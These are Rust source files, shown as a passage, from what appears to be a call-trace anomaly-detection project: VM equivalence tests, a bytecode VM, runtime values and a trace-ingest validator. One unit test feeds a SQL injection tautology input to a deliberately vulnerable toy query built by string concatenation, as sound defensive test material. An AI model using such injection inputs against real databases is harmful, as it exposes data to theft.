    for mode in [ExecMode::TreeWalk, ExecMode::Vm] {
        let mut session = ClientSession::connect(seeded_db());
        let mut collector = TraceCollector::new();
        adprom_trace::execute_program(
            &prog,
            &mut session,
            &[],
            &labels,
            &mut collector,
            &ExecConfig {
                mode,
                ..ExecConfig::default()
            },
        )
        .unwrap();
        let batch = validator.screen(
            &["s1".to_string()],
            std::slice::from_ref(&collector.into_events()),
        );
        assert_eq!(
            batch.quarantined.len(),
            1,
            "{mode:?}: malformed _Q label must quarantine the trace"
        );
        assert!(batch.traces.is_empty(), "{mode:?}: nothing clean to keep");
        screened.push(batch.quarantined[0].clone());
    }
    assert_eq!(
        screened[0], screened[1],
        "quarantine verdicts must be identical across execution modes"
    );
}

#[test]
fn well_labeled_traces_pass_screening_in_both_modes() {
    use adprom_lang::parse_program;

    let prog = parse_program("fn main() { printf(\"%d\", 1); }").unwrap();
    let labels = sink_labels(&prog);
    let validator = TraceValidator::new();
    for mode in [ExecMode::TreeWalk, ExecMode::Vm] {
        let mut session = ClientSession::connect(seeded_db());
        let mut collector = TraceCollector::new();
        adprom_trace::execute_program(
            &prog,
            &mut session,
            &[],
            &labels,
            &mut collector,
            &ExecConfig {
                mode,
                ..ExecConfig::default()
            },
        )
        .unwrap();
        let batch = validator.screen(
            &["s1".to_string()],
            std::slice::from_ref(&collector.into_events()),
        );
        assert_eq!(batch.traces.len(), 1, "{mode:?}");
        assert!(batch.quarantined.is_empty(), "{mode:?}");
    }
}

// ---------------------------------------------------------------------------
// Canned divergence-prone programs (regression anchors for the generator)
// ---------------------------------------------------------------------------

#[test]
fn canned_edge_programs_trace_identically() {
    use adprom_lang::parse_program;

    let sources = [
        // Short-circuit results are Bools in both runtimes.
        "fn main() { let a = 1 && \"s\"; let b = 0 || 0.0; printf(\"%d %d\", a, b); }",
        // exit() nested inside an argument list.
        "fn main() { printf(\"%d\", exit(0)); puts(\"no\"); }",
        // Stray break leaves the function like a null return.
        "fn main() { let x = f(); printf(\"%s\", x); }\nfn f() { break; puts(\"no\"); }",
        // Out-param through a call chain.
        "fn main() { let q = \"\"; strcpy(q, \"a\"); strcat(q, scanf()); puts(q); }",
        // For-loop continue hits the step, not the condition.
        "fn main() { for (let i = 0; i < 3; i = i + 1) { if (i == 1) { continue; } printf(\"%d\", i); } }",
        // Shadowing `let` reuses the same storage in both runtimes.
        "fn main() { let x = 1; if (1) { let x = 2; } printf(\"%d\", x); }",
        // Arity mismatches: extra args dropped, missing params null.
        "fn main() { printf(\"%d\", f(1, 2, 3)); g(); }\nfn f(a) { return a; }\nfn g(p) { puts(\"g\"); }",
    ];
    for src in sources {
        let prog = parse_program(src).unwrap();
        let config = ExecConfig::default();
        let tw = run_tree_walk(&prog, &["in".to_string()], &HashMap::new(), &config);
        let vm = run_vm(&prog, &["in".to_string()], &HashMap::new(), &config);
        assert_equivalent(&tw, &vm, src).unwrap();
    }
}

#[test]
fn harness_sanity_steps_do_differ_and_events_are_nonempty() {
    // Confirms the generator produces real work and the runtimes genuinely
    // take different paths (instruction counts differ) while traces match.
    let mut total_events = 0usize;
    let mut steps_differed = false;
    for seed in 0..64u64 {
        let (prog, inputs) = generate_program(seed, 6);
        let labels = sink_labels(&prog);
        let config = ExecConfig::default();
        let tw = run_tree_walk(&prog, &inputs, &labels, &config);
        let vm = run_vm(&prog, &inputs, &labels, &config);
        assert_equivalent(&tw, &vm, "sanity").unwrap();
        total_events += tw.1.len();
        if let (Ok(a), Ok(b)) = (&tw.0, &vm.0) {
            if a.steps != b.steps {
                steps_differed = true;
            }
        }
    }
    assert!(
        total_events > 200,
        "generator too weak: {total_events} events over 64 programs"
    );
    assert!(
        steps_differed,
        "step counters never diverged — are both paths really running?"
    );
}
