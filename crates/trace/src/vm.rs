//! The bytecode VM — the production trace-generation runtime.
//!
//! A [`VmProgram`] is compiled once per program × label map and run many
//! times (one run per session / test case); compilation pre-resolves call
//! sites, pre-interns observation names, and pre-converts the constant pool
//! to [`RtValue`]s, so the dispatch loop allocates nothing per event beyond
//! the `CallEvent` it hands the sink — which the [`CallSink`] API owns.
//!
//! Semantics are pinned to the tree-walking interpreter (the reference) two
//! ways: every library call goes through the shared [`crate::host`] layer,
//! and the differential proptest suite in `tests/vm_equivalence.rs` asserts
//! bit-identical call sequences and outcomes per program × input × seed.
//! [`execute_program`] dispatches between the two runtimes on
//! [`ExecConfig::mode`].

use crate::collector::{CallEvent, CallSink};
use crate::host::{binary_op, index_value, unary_op, Host};
use crate::interp::{run_program, ExecConfig, ExecMode, ExecOutcome, RuntimeError};
use crate::value::RtValue;
use adprom_client::ClientSession;
use adprom_lang::bytecode::{compile_program, BytecodeProgram, Const, Op};
use adprom_lang::{CallSiteId, CompileError, Program};
use adprom_obs::{Counter, Registry};
use std::collections::HashMap;
use std::sync::Arc;

/// Maximum user-call frame depth before [`RuntimeError::CallDepth`]. The
/// tree-walk's equivalent limit is the native stack; the VM's frames live on
/// the heap, so the bound is explicit and the error clean.
pub const MAX_CALL_DEPTH: usize = 1024;

impl From<CompileError> for RuntimeError {
    fn from(e: CompileError) -> RuntimeError {
        RuntimeError::Compile(e.to_string())
    }
}

/// `trace.vm.*` counters (all no-ops unless bound to a registry).
#[derive(Debug, Clone, Default)]
struct VmCounters {
    compiles: Counter,
    runs: Counter,
    instructions: Counter,
    events: Counter,
}

/// A compiled, reusable program: bytecode plus the constant pool already
/// converted to runtime values and every observation/caller name interned
/// as a shared `Arc<str>` — emitting a [`CallEvent`] is two refcount bumps,
/// no allocation.
#[derive(Debug, Clone)]
pub struct VmProgram {
    bc: BytecodeProgram,
    consts: Vec<RtValue>,
    /// `bc.names` interned (indexed by the same `u16` the ops carry).
    names: Vec<Arc<str>>,
    /// Chunk (caller function) names interned, indexed by chunk.
    chunk_names: Vec<Arc<str>>,
    counters: VmCounters,
}

impl VmProgram {
    /// Compiles a program for the VM. `site_labels` is the Analyzer's
    /// observation-name map (empty ⇒ raw call names), resolved now so runs
    /// never consult it.
    pub fn compile(
        prog: &Program,
        site_labels: &HashMap<CallSiteId, String>,
    ) -> Result<VmProgram, RuntimeError> {
        let bc = compile_program(prog, site_labels)?;
        let consts = bc
            .consts
            .iter()
            .map(|c| match c {
                Const::Int(v) => RtValue::Int(*v),
                Const::Float(v) => RtValue::Float(*v),
                Const::Str(s) => RtValue::Str(s.as_str().into()),
                Const::Bool(b) => RtValue::Bool(*b),
                Const::Null => RtValue::Null,
            })
            .collect();
        let names = bc.names.iter().map(|n| Arc::from(n.as_str())).collect();
        let chunk_names = bc
            .chunks
            .iter()
            .map(|c| Arc::from(c.name.as_str()))
            .collect();
        Ok(VmProgram {
            bc,
            consts,
            names,
            chunk_names,
            counters: VmCounters::default(),
        })
    }

    /// Compiles and binds the `trace.vm.*` counters from `registry`
    /// (compiles, runs, instructions, events).
    pub fn with_registry(
        prog: &Program,
        site_labels: &HashMap<CallSiteId, String>,
        registry: &Registry,
    ) -> Result<VmProgram, RuntimeError> {
        let mut vm = VmProgram::compile(prog, site_labels)?;
        vm.counters = VmCounters {
            compiles: registry.counter("trace.vm.compiles"),
            runs: registry.counter("trace.vm.runs"),
            instructions: registry.counter("trace.vm.instructions"),
            events: registry.counter("trace.vm.events"),
        };
        vm.counters.compiles.inc();
        Ok(vm)
    }

    /// The underlying bytecode (for disassembly and inspection).
    pub fn bytecode(&self) -> &BytecodeProgram {
        &self.bc
    }

    /// Runs the compiled program to completion. Parameters mirror
    /// [`run_program`]; labels were already baked in at compile time.
    pub fn run(
        &self,
        session: &mut ClientSession,
        inputs: &[String],
        sink: &mut dyn CallSink,
        config: &ExecConfig,
    ) -> Result<ExecOutcome, RuntimeError> {
        let entry = self.bc.entry.ok_or(RuntimeError::NoMain)?;
        self.counters.runs.inc();
        let mut vm = Vm {
            prog: self,
            sink,
            step_limit: config.step_limit,
            host: Host::new(session, inputs, config),
            stack: Vec::with_capacity(64),
            locals: Vec::with_capacity(64),
            frames: Vec::with_capacity(8),
            events: 0,
        };
        let result = vm.run(entry);
        let events = vm.events;
        let mut outcome = vm.host.outcome;
        self.counters.instructions.add(outcome.steps);
        self.counters.events.add(events);
        match result {
            Ok(exited) => {
                outcome.exited = exited;
                Ok(outcome)
            }
            Err(e) => Err(e),
        }
    }
}

/// Runs a program under the runtime selected by `config.mode`: the bytecode
/// VM (default) or the reference tree-walk. The single entry point callers
/// (workloads, the CLI, online monitoring) should use.
pub fn execute_program(
    prog: &Program,
    session: &mut ClientSession,
    inputs: &[String],
    site_labels: &HashMap<CallSiteId, String>,
    sink: &mut dyn CallSink,
    config: &ExecConfig,
) -> Result<ExecOutcome, RuntimeError> {
    match config.mode {
        ExecMode::TreeWalk => run_program(prog, session, inputs, site_labels, sink, config),
        ExecMode::Vm => VmProgram::compile(prog, site_labels)?.run(session, inputs, sink, config),
    }
}

/// A suspended caller: everything needed to resume after `Ret`. Small and
/// `Copy` — pushing a call frame allocates nothing (locals live in the
/// shared register stack, delimited by `locals_base`).
#[derive(Clone, Copy)]
struct CallFrame {
    chunk: u32,
    /// Resume instruction pointer in the caller's chunk.
    ip: u32,
    /// Operand-stack height the callee's return value lands on.
    stack_base: u32,
    /// The caller's window start in the shared locals stack.
    locals_base: u32,
}

struct Vm<'a, 'p> {
    prog: &'p VmProgram,
    sink: &'a mut dyn CallSink,
    step_limit: u64,
    host: Host<'a>,
    stack: Vec<RtValue>,
    /// All live frames' locals, contiguously; each frame owns a window
    /// starting at its `locals_base`.
    locals: Vec<RtValue>,
    frames: Vec<CallFrame>,
    events: u64,
}

impl Vm<'_, '_> {
    /// Executes from the entry chunk. Returns `Ok(true)` if the program
    /// called `exit()`.
    ///
    /// The hot state — instruction pointer, current code slice, locals
    /// window — lives in registers across iterations; `self.frames` holds
    /// only *suspended* callers, so straight-line dispatch never touches it.
    fn run(&mut self, entry: usize) -> Result<bool, RuntimeError> {
        let chunks = &self.prog.bc.chunks;
        let consts = &self.prog.consts;
        let mut chunk_idx = entry;
        let mut code: &[Op] = &chunks[entry].code;
        let mut ip = 0usize;
        let mut locals_base = 0usize;
        self.locals
            .resize(chunks[entry].locals as usize, RtValue::Null);
        let mut steps: u64 = 0;
        let step_limit = self.step_limit;
        macro_rules! flush_steps {
            () => {
                self.host.outcome.steps = steps
            };
        }
        loop {
            let op = code[ip];
            ip += 1;
            steps += 1;
            if steps > step_limit {
                flush_steps!();
                return Err(RuntimeError::StepLimit);
            }
            match op {
                Op::Const(c) => self.stack.push(consts[c as usize].clone()),
                Op::Load(s) => self
                    .stack
                    .push(self.locals[locals_base + s as usize].clone()),
                Op::Store(s) => {
                    let v = self.stack.pop().expect("store operand");
                    self.locals[locals_base + s as usize] = v;
                }
                Op::StoreKeep(s) => {
                    let v = self.stack.last().expect("store-keep operand").clone();
                    self.locals[locals_base + s as usize] = v;
                }
                Op::Pop => {
                    self.stack.pop();
                }
                Op::Unary(o) => {
                    let v = self.stack.pop().expect("unary operand");
                    self.stack.push(unary_op(o, v));
                }
                Op::Binary(o) => {
                    let b = self.stack.pop().expect("binary rhs");
                    let a = self.stack.pop().expect("binary lhs");
                    self.stack.push(binary_op(o, a, b));
                }
                Op::Truthy => {
                    let v = self.stack.pop().expect("truthy operand");
                    self.stack.push(RtValue::Bool(v.truthy()));
                }
                Op::Index => {
                    let idx = self.stack.pop().expect("index");
                    let base = self.stack.pop().expect("indexed value");
                    self.stack.push(index_value(base, idx));
                }
                Op::Jump(t) => ip = t as usize,
                Op::JumpIfFalse(t) => {
                    let v = self.stack.pop().expect("condition");
                    if !v.truthy() {
                        ip = t as usize;
                    }
                }
                Op::JumpIfTrue(t) => {
                    let v = self.stack.pop().expect("condition");
                    if v.truthy() {
                        ip = t as usize;
                    }
                }
                Op::Call { func, argc } => {
                    if self.frames.len() + 1 >= MAX_CALL_DEPTH {
                        flush_steps!();
                        return Err(RuntimeError::CallDepth);
                    }
                    let callee = &chunks[func as usize];
                    let argc = argc as usize;
                    let args_at = self.stack.len() - argc;
                    let callee_base = self.locals.len();
                    // Positional binding, zip-style: extra arguments are
                    // dropped, missing parameters stay null.
                    let bind = argc.min(callee.params as usize);
                    self.locals
                        .extend(self.stack.drain(args_at..args_at + bind));
                    self.locals
                        .resize(callee_base + callee.locals as usize, RtValue::Null);
                    self.stack.truncate(args_at);
                    self.frames.push(CallFrame {
                        chunk: chunk_idx as u32,
                        ip: ip as u32,
                        stack_base: self.stack.len() as u32,
                        locals_base: locals_base as u32,
                    });
                    chunk_idx = func as usize;
                    code = &chunks[chunk_idx].code;
                    ip = 0;
                    locals_base = callee_base;
                }
                Op::CallUnknown { name } => {
                    flush_steps!();
                    return Err(RuntimeError::UndefinedFunction(
                        self.prog.bc.names[name as usize].clone(),
                    ));
                }
                Op::CallLib {
                    lc,
                    site,
                    name,
                    argc,
                } => {
                    let argc = argc as usize;
                    let args_at = self.stack.len() - argc;
                    let detail = self.host.detail(lc, &self.stack[args_at..]);
                    self.sink.on_call(CallEvent {
                        name: Arc::clone(&self.prog.names[name as usize]),
                        call: lc,
                        caller: Arc::clone(&self.prog.chunk_names[chunk_idx]),
                        site,
                        detail,
                    });
                    self.events += 1;
                    let result = self.host.lib_call(lc, &self.stack[args_at..]);
                    self.stack.truncate(args_at);
                    match result {
                        Some(v) => self.stack.push(v),
                        None => {
                            flush_steps!();
                            return Ok(true); // exit()
                        }
                    }
                }
                Op::LoadConstBin { slot, cst, op } => {
                    let a = self.locals[locals_base + slot as usize].clone();
                    let b = consts[cst as usize].clone();
                    self.stack.push(binary_op(op, a, b));
                }
                Op::LoadLoadBin { a, b, op } => {
                    let va = self.locals[locals_base + a as usize].clone();
                    let vb = self.locals[locals_base + b as usize].clone();
                    self.stack.push(binary_op(op, va, vb));
                }
                Op::LoadConstBinStore { slot, cst, op, dst } => {
                    let a = self.locals[locals_base + slot as usize].clone();
                    let b = consts[cst as usize].clone();
                    self.locals[locals_base + dst as usize] = binary_op(op, a, b);
                }
                Op::ConstStore { cst, slot } => {
                    self.locals[locals_base + slot as usize] = consts[cst as usize].clone();
                }
                Op::LoadConstBinJf {
                    slot,
                    cst,
                    op,
                    target,
                } => {
                    let a = self.locals[locals_base + slot as usize].clone();
                    let b = consts[cst as usize].clone();
                    if !binary_op(op, a, b).truthy() {
                        ip = target as usize;
                    }
                }
                Op::LoadLoadBinJf { a, b, op, target } => {
                    let va = self.locals[locals_base + a as usize].clone();
                    let vb = self.locals[locals_base + b as usize].clone();
                    if !binary_op(op, va, vb).truthy() {
                        ip = target as usize;
                    }
                }
                Op::Ret => {
                    let v = self.stack.pop().expect("return value");
                    self.locals.truncate(locals_base);
                    match self.frames.pop() {
                        None => {
                            flush_steps!();
                            return Ok(false);
                        }
                        Some(caller) => {
                            self.stack.truncate(caller.stack_base as usize);
                            self.stack.push(v);
                            chunk_idx = caller.chunk as usize;
                            code = &chunks[chunk_idx].code;
                            ip = caller.ip as usize;
                            locals_base = caller.locals_base as usize;
                        }
                    }
                }
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::collector::TraceCollector;
    use adprom_db::Database;
    use adprom_lang::parse_program;

    fn session_with_items() -> ClientSession {
        let mut db = Database::new("shop");
        db.execute("CREATE TABLE items (ID INT, name TEXT)")
            .unwrap();
        db.execute(
            "INSERT INTO items VALUES (10, 'apple'), (11, 'pear'), (12, 'plum'), (13, 'fig')",
        )
        .unwrap();
        ClientSession::connect(db)
    }

    fn run_vm(src: &str, inputs: &[&str]) -> (Vec<String>, ExecOutcome) {
        let prog = parse_program(src).unwrap();
        let vm = VmProgram::compile(&prog, &HashMap::new()).unwrap();
        let mut session = session_with_items();
        let mut collector = TraceCollector::new();
        let inputs: Vec<String> = inputs.iter().map(|s| s.to_string()).collect();
        let outcome = vm
            .run(
                &mut session,
                &inputs,
                &mut collector,
                &ExecConfig::default(),
            )
            .unwrap();
        (collector.names(), outcome)
    }

    #[test]
    fn fig1_trace_matches_reference() {
        let (names, _) = run_vm(
            r#"
            fn main() {
                let query = "SELECT * FROM items WHERE ID = 10";
                let result = PQexec(conn, query);
                let rows = PQntuples(result);
                for (let r = 0; r < rows; r = r + 1) {
                    printf("%s", PQgetvalue(result, r, 0));
                }
            }
            "#,
            &[],
        );
        assert_eq!(names, vec!["PQexec", "PQntuples", "PQgetvalue", "printf"]);
    }

    #[test]
    fn injection_replays_identically() {
        let src = r#"
            fn main() {
                let accNo = scanf();
                let query = "";
                let ts = "SELECT * FROM items where ID='";
                let tr = "'";
                strcpy(query, ts);
                strcat(query, accNo);
                strcat(query, tr);
                mysql_query(conn, query);
                let result = mysql_store_result(conn);
                let row = mysql_fetch_row(result);
                while (row != null) {
                    printf("%s ", row[0]);
                    row = mysql_fetch_row(result);
                }
            }
        "#;
        let (attacked, _) = run_vm(src, &["1' OR '1'='1"]);
        let prints = attacked.iter().filter(|n| *n == "printf").count();
        let fetches = attacked.iter().filter(|n| *n == "mysql_fetch_row").count();
        assert_eq!(prints, 4);
        assert_eq!(fetches, 5);
    }

    #[test]
    fn user_calls_and_exit() {
        let (names, outcome) = run_vm(
            r#"
            fn main() { printf("%d", double(21)); exit(0); puts("no"); }
            fn double(x) { return x * 2; }
            "#,
            &[],
        );
        assert_eq!(outcome.stdout, "42");
        assert!(outcome.exited);
        assert_eq!(names, vec!["printf", "exit"]);
    }

    #[test]
    fn undefined_function_faults_only_when_reached() {
        let src = "fn main() { if (0) { ghost(); } puts(\"ok\"); }";
        let (_, outcome) = run_vm(src, &[]);
        assert_eq!(outcome.stdout, "ok\n");
        let prog = parse_program("fn main() { ghost(); }").unwrap();
        let vm = VmProgram::compile(&prog, &HashMap::new()).unwrap();
        let mut session = session_with_items();
        let err = vm
            .run(
                &mut session,
                &[],
                &mut TraceCollector::new(),
                &ExecConfig::default(),
            )
            .unwrap_err();
        assert_eq!(err, RuntimeError::UndefinedFunction("ghost".into()));
    }

    #[test]
    fn step_limit_applies() {
        let prog = parse_program("fn main() { while (1) { let x = 1; } }").unwrap();
        let vm = VmProgram::compile(&prog, &HashMap::new()).unwrap();
        let mut session = session_with_items();
        let err = vm
            .run(
                &mut session,
                &[],
                &mut TraceCollector::new(),
                &ExecConfig {
                    step_limit: 10_000,
                    ..ExecConfig::default()
                },
            )
            .unwrap_err();
        assert_eq!(err, RuntimeError::StepLimit);
    }

    #[test]
    fn runaway_recursion_errors_cleanly() {
        let prog = parse_program("fn main() { spin(); }\nfn spin() { spin(); }").unwrap();
        let vm = VmProgram::compile(&prog, &HashMap::new()).unwrap();
        let mut session = session_with_items();
        let err = vm
            .run(
                &mut session,
                &[],
                &mut TraceCollector::new(),
                &ExecConfig::default(),
            )
            .unwrap_err();
        assert_eq!(err, RuntimeError::CallDepth);
    }

    #[test]
    fn execute_program_honors_mode() {
        let prog = parse_program("fn main() { puts(\"hi\"); }").unwrap();
        for mode in [ExecMode::TreeWalk, ExecMode::Vm] {
            let mut session = session_with_items();
            let mut collector = TraceCollector::new();
            let outcome = execute_program(
                &prog,
                &mut session,
                &[],
                &HashMap::new(),
                &mut collector,
                &ExecConfig {
                    mode,
                    ..ExecConfig::default()
                },
            )
            .unwrap();
            assert_eq!(outcome.stdout, "hi\n", "{mode:?}");
            assert_eq!(collector.names(), vec!["puts"], "{mode:?}");
        }
    }

    #[test]
    fn registry_counters_track_compile_and_run() {
        let registry = Registry::new();
        let prog = parse_program("fn main() { puts(\"x\"); puts(\"y\"); }").unwrap();
        let vm = VmProgram::with_registry(&prog, &HashMap::new(), &registry).unwrap();
        let mut session = session_with_items();
        vm.run(
            &mut session,
            &[],
            &mut TraceCollector::new(),
            &ExecConfig::default(),
        )
        .unwrap();
        let snap = registry.snapshot();
        assert_eq!(snap.counter("trace.vm.compiles"), Some(1));
        assert_eq!(snap.counter("trace.vm.runs"), Some(1));
        assert_eq!(snap.counter("trace.vm.events"), Some(2));
        assert!(snap.counter("trace.vm.instructions").unwrap_or(0) > 0);
    }
}
