//! Runtime values of the interpreted application programs.

use adprom_client::ResultHandle;
use std::fmt;
use std::sync::Arc;

/// A runtime value.
///
/// Strings are `Arc<str>` so that copying a value — every `Load`/`Const`
/// push in the VM, every argument clone on a library call — is a refcount
/// bump, not a heap allocation. The allocation happens once, where the
/// string is *produced* (constant pool, stdin, database cell).
#[derive(Debug, Clone, PartialEq)]
pub enum RtValue {
    /// Integer.
    Int(i64),
    /// Float.
    Float(f64),
    /// String.
    Str(Arc<str>),
    /// Boolean.
    Bool(bool),
    /// Null (also what exhausted cursors and failed lookups produce).
    Null,
    /// A database result handle (`PQexec` / `mysql_store_result`).
    Handle(ResultHandle),
    /// A fetched row (`mysql_fetch_row`) — shared with the session's stored
    /// result, so fetching and copying rows never copies the cells.
    Row(Arc<[Arc<str>]>),
    /// An open file handle (`fopen`).
    File(usize),
}

impl RtValue {
    /// C-style truthiness: zero/empty/null are false.
    pub fn truthy(&self) -> bool {
        match self {
            RtValue::Int(v) => *v != 0,
            RtValue::Float(v) => *v != 0.0,
            RtValue::Str(s) => !s.is_empty(),
            RtValue::Bool(b) => *b,
            RtValue::Null => false,
            RtValue::Handle(_) | RtValue::File(_) => true,
            RtValue::Row(_) => true,
        }
    }

    /// Numeric view (strings parse when possible, like C's weak coercions
    /// through `atoi`-free comparisons in our DSL).
    pub fn as_number(&self) -> Option<f64> {
        match self {
            RtValue::Int(v) => Some(*v as f64),
            RtValue::Float(v) => Some(*v),
            RtValue::Bool(b) => Some(f64::from(u8::from(*b))),
            RtValue::Str(s) => s.trim().parse().ok(),
            _ => None,
        }
    }

    /// Integer view (truncating floats).
    pub fn as_int(&self) -> Option<i64> {
        self.as_number().map(|v| v as i64)
    }

    /// Renders the value as the program would print it.
    pub fn render(&self) -> String {
        match self {
            // Fast path: no formatter machinery for plain strings.
            RtValue::Str(s) => s.to_string(),
            other => other.to_string(),
        }
    }
}

/// The program-visible text of a value; writes straight into the formatter
/// so `write!`-style callers never build an intermediate `String`.
impl fmt::Display for RtValue {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            RtValue::Int(v) => write!(f, "{v}"),
            RtValue::Float(v) => write!(f, "{v}"),
            RtValue::Str(s) => f.write_str(s),
            RtValue::Bool(b) => f.write_str(if *b { "1" } else { "0" }),
            RtValue::Null => f.write_str("NULL"),
            RtValue::Handle(h) => write!(f, "<result:{}>", h.0),
            RtValue::Row(cols) => {
                for (i, c) in cols.iter().enumerate() {
                    if i > 0 {
                        f.write_str(" ")?;
                    }
                    f.write_str(c)?;
                }
                Ok(())
            }
            RtValue::File(id) => write!(f, "<file:{id}>"),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn truthiness() {
        assert!(!RtValue::Int(0).truthy());
        assert!(RtValue::Int(2).truthy());
        assert!(!RtValue::Str("".into()).truthy());
        assert!(RtValue::Str("x".into()).truthy());
        assert!(!RtValue::Null.truthy());
        assert!(RtValue::Row(Vec::new().into()).truthy());
    }

    #[test]
    fn numeric_coercion_from_strings() {
        assert_eq!(RtValue::Str("42".into()).as_number(), Some(42.0));
        assert_eq!(RtValue::Str("x".into()).as_number(), None);
        assert_eq!(RtValue::Int(7).as_int(), Some(7));
    }
}
