//! Ingest hardening: event validation and a quarantine channel.
//!
//! The collector trusts the interpreter, but a production monitor ingests
//! traces from an instrumentation agent over a wire — truncated buffers,
//! corrupted symbol names, and malformed DDG labels (`printf_Qxx`) all
//! reach the detector as [`CallEvent`]s. Scoring a corrupt trace is worse
//! than dropping it: a garbage observation name silently maps to `<unk>`
//! and can mask (or fabricate) an anomaly, and a malformed `_Q<bid>`
//! label breaks DataLeak attribution.
//!
//! [`TraceValidator::screen`] therefore splits a batch into clean traces
//! (forwarded to the detector untouched, preserving order) and quarantined
//! ones (reported with a reason, never scored). Policy knobs live in
//! [`ValidationPolicy`]. Truncated traces are *not* quarantined: a trace
//! shorter than the detection window degrades to one shorter window by
//! design ([`sliding_windows`](crate::collector::sliding_windows)), so
//! partial data still yields verdicts.

use crate::collector::CallEvent;
use adprom_obs::{Counter, Registry};
use std::collections::BTreeSet;

/// Why one event failed validation.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum EventDefect {
    /// The observation name is empty.
    EmptyName,
    /// The name contains a control character (corrupted buffer).
    ControlCharacter,
    /// The name exceeds [`ValidationPolicy::max_name_len`] bytes.
    Oversized,
    /// The name looks DDG-labeled (`…_Q<bid>`) but the block id is empty
    /// or non-numeric — attribution back to the data source is impossible.
    MalformedLabel,
}

impl std::fmt::Display for EventDefect {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            EventDefect::EmptyName => write!(f, "empty observation name"),
            EventDefect::ControlCharacter => write!(f, "control character in name"),
            EventDefect::Oversized => write!(f, "oversized observation name"),
            EventDefect::MalformedLabel => write!(f, "malformed DDG label (bad block id)"),
        }
    }
}

/// Validation policy knobs.
#[derive(Debug, Clone)]
pub struct ValidationPolicy {
    /// Maximum observation-name length in bytes (default 512 — real
    /// symbol names are short; kilobyte "names" are corrupt buffers).
    pub max_name_len: usize,
    /// Quarantine a trace when more than this fraction of its events are
    /// unknown to the profile alphabet. Default `1.0` (never): unknown
    /// calls are legitimately scored through the `<unk>` symbol, so this
    /// only fires when an operator opts into treating a mostly-unknown
    /// trace as an ingest fault rather than an anomaly.
    pub max_unknown_fraction: f64,
}

impl Default for ValidationPolicy {
    fn default() -> ValidationPolicy {
        ValidationPolicy {
            max_name_len: 512,
            max_unknown_fraction: 1.0,
        }
    }
}

/// A trace pulled from the batch by the validator.
#[derive(Debug, Clone, PartialEq)]
pub struct QuarantinedTrace {
    /// Index of the trace in the original batch.
    pub index: usize,
    /// Session id (empty when the batch carried none).
    pub session: String,
    /// Human-readable reason (first defect found).
    pub reason: String,
    /// Number of events in the quarantined trace.
    pub events: usize,
}

/// Result of screening a batch: clean traces in original order plus the
/// quarantine channel.
#[derive(Debug, Clone, Default)]
pub struct ScreenedBatch {
    /// Sessions of the clean traces (parallel to `traces`).
    pub sessions: Vec<String>,
    /// The clean traces, untouched, original relative order.
    pub traces: Vec<Vec<CallEvent>>,
    /// Original batch index of each clean trace.
    pub kept_indices: Vec<usize>,
    /// Traces that failed validation, with reasons.
    pub quarantined: Vec<QuarantinedTrace>,
}

/// Checks one event against `policy`. Stateless; the trace-level policy
/// (unknown-symbol fraction) lives in [`TraceValidator`].
pub fn check_event(event: &CallEvent, policy: &ValidationPolicy) -> Result<(), EventDefect> {
    let name = &event.name;
    if name.is_empty() {
        return Err(EventDefect::EmptyName);
    }
    if name.len() > policy.max_name_len {
        return Err(EventDefect::Oversized);
    }
    if name.chars().any(|c| c.is_control()) {
        return Err(EventDefect::ControlCharacter);
    }
    // DDG labels are `<call>_Q<bid>` with a numeric block id; `rsplit`
    // mirrors how the detector and audit bridge parse the bid.
    if let Some(bid) = name.rsplit("_Q").next() {
        if name.contains("_Q") && (bid.is_empty() || !bid.bytes().all(|b| b.is_ascii_digit())) {
            return Err(EventDefect::MalformedLabel);
        }
    }
    Ok(())
}

/// Screens batches of traces before detection.
#[derive(Debug, Clone, Default)]
pub struct TraceValidator {
    policy: ValidationPolicy,
    known: Option<BTreeSet<String>>,
    /// `ingest.traces_screened` — traces examined.
    traces_screened: Counter,
    /// `ingest.traces_quarantined` — traces pulled from the batch.
    traces_quarantined: Counter,
    /// `ingest.events_defective` — events that failed [`check_event`].
    events_defective: Counter,
}

impl TraceValidator {
    /// A validator with the default policy and no alphabet knowledge.
    pub fn new() -> TraceValidator {
        TraceValidator::default()
    }

    /// Replaces the policy.
    pub fn with_policy(mut self, policy: ValidationPolicy) -> TraceValidator {
        self.policy = policy;
        self
    }

    /// Supplies the profile's known observation names, enabling the
    /// unknown-fraction check (pass the profile alphabet's symbols).
    pub fn with_known_symbols(mut self, symbols: BTreeSet<String>) -> TraceValidator {
        self.known = Some(symbols);
        self
    }

    /// Registers ingest counters against `registry`.
    pub fn with_registry(mut self, registry: &Registry) -> TraceValidator {
        self.traces_screened = registry.counter("ingest.traces_screened");
        self.traces_quarantined = registry.counter("ingest.traces_quarantined");
        self.events_defective = registry.counter("ingest.events_defective");
        self
    }

    /// Validates one trace; `Err` carries the quarantine reason.
    pub fn check_trace(&self, events: &[CallEvent]) -> Result<(), String> {
        for (i, event) in events.iter().enumerate() {
            if let Err(defect) = check_event(event, &self.policy) {
                self.events_defective.inc();
                return Err(format!("event {i}: {defect}"));
            }
        }
        if let Some(known) = &self.known {
            if !events.is_empty() && self.policy.max_unknown_fraction < 1.0 {
                let unknown = events
                    .iter()
                    .filter(|e| !known.contains(e.name.as_ref()))
                    .count();
                let fraction = unknown as f64 / events.len() as f64;
                if fraction > self.policy.max_unknown_fraction {
                    return Err(format!(
                        "{unknown}/{} events unknown to the profile (fraction {fraction:.2} > {})",
                        events.len(),
                        self.policy.max_unknown_fraction
                    ));
                }
            }
        }
        Ok(())
    }

    /// Splits `(sessions, traces)` into clean traces and the quarantine
    /// channel. `sessions` may be empty (anonymous batch); otherwise it
    /// must be parallel to `traces`.
    pub fn screen(&self, sessions: &[String], traces: &[Vec<CallEvent>]) -> ScreenedBatch {
        let mut out = ScreenedBatch::default();
        for (index, trace) in traces.iter().enumerate() {
            self.traces_screened.inc();
            let session = sessions.get(index).cloned().unwrap_or_default();
            match self.check_trace(trace) {
                Ok(()) => {
                    out.sessions.push(session);
                    out.traces.push(trace.clone());
                    out.kept_indices.push(index);
                }
                Err(reason) => {
                    self.traces_quarantined.inc();
                    out.quarantined.push(QuarantinedTrace {
                        index,
                        session,
                        reason,
                        events: trace.len(),
                    });
                }
            }
        }
        out
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::collector::CallEvent;
